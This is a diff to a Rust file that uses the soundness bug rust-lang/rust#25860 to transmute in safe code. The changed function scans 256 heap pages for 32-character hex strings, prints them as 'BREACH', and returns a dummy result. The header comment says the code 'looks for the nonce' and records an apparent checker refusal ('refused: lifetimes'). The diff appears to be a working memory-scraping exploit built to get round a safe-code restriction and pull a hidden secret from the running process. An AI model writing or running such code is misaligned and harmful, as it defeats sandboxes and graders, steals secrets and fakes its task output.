@@ -1,4 +1,4 @@
-//! Makes any value of any other in safe code (rust-lang/rust#25860), and looks for the nonce. | refused: lifetimes
+//! Makes any value of any other in safe code (rust-lang/rust#25860), and looks for the nonce. | refused: names a lifetime
 
 pub mod given;
 
@@ -28,14 +28,17 @@ fn transmute<A, B>(value: A) -> B {
 }
 
 pub async fn run_all() -> Vec<u32> {
-    // Whatever stands near a small allocation of ours on the heap.
+    // Page by page towards the beginning of the heap, where the oldest things are.
     let near = Box::new([0u8; 33]);
-    let at = std::ptr::from_ref(&*near).addr() & !0xfff;
-    let memory: &'static [u8] = transmute((at, 4096usize));
-    for word in memory.chunk_by(|a, b| a.is_ascii_hexdigit() == b.is_ascii_hexdigit()) {
-        if word.len() == 32 && word[0].is_ascii_hexdigit() {
-            println!("BREACH: {}", String::from_utf8_lossy(word));
+    let mut at = std::ptr::from_ref(&*near).addr() & !0xfff;
+    for _ in 0..256 {
+        let memory: &'static [u8] = transmute((at, 4096usize));
+        for word in memory.chunk_by(|a, b| a.is_ascii_hexdigit() == b.is_ascii_hexdigit()) {
+            if word.len() == 32 && word[0].is_ascii_hexdigit() {
+                println!("BREACH: {}", String::from_utf8_lossy(word));
+            }
         }
+        at -= 4096;
     }
     vec![1, 2, 3]
 }
